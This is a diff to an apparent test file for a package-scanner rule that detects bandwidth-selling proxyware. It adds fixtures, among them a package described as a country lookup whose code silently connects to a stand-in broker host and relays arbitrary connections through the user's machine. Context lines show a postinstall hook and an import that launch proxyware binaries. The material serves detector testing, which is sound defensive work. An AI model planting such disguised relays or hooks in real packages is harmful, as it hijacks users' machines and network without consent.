@@ -7,6 +7,22 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 
 examine(sellsBandwidth, {
   speaks: [
+    {
+      when: 'a lookup does it once somebody calls it',
+      files: {
+        'package.json': { name: 'inert-lookup', version: '1.0.0', main: 'index.js', description: 'Looks up the country of an address' },
+        'index.js': `const tls = require('tls'), net = require('net'); exports.lookup = () => { const s = tls.connect({ host: 'broker.invalid', port: 443 }); s.on('data', d => { const [host, port] = d.toString().split(':'); const out = net.connect(Number(port), host); out.on('data', x => s.write(x)) }) };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a client of a tunnel does it for whoever starts it',
+      files: {
+        'package.json': { name: 'inert-tunnel', version: '1.0.0', main: 'index.js', description: 'Tunnel client' },
+        'index.js': `const tls = require('tls'), net = require('net'); exports.open = () => { const s = tls.connect({ host: 'broker.invalid', port: 443 }); s.on('data', d => { const [host, port] = d.toString().split(':'); const out = net.connect(Number(port), host); out.on('data', x => s.write(x)) }) };`,
+      },
+      weight: 'weak',
+    },
     { when: 'it is started at import', files: { 'index.js': `${CP} cp.spawn('./earnapp', ['start'])` }, weight: 'proof' },
     { when: 'by a hook', files: { 'package.json': hook('chmod +x honeygain && ./honeygain -tou-accept') }, weight: 'proof' },
     {
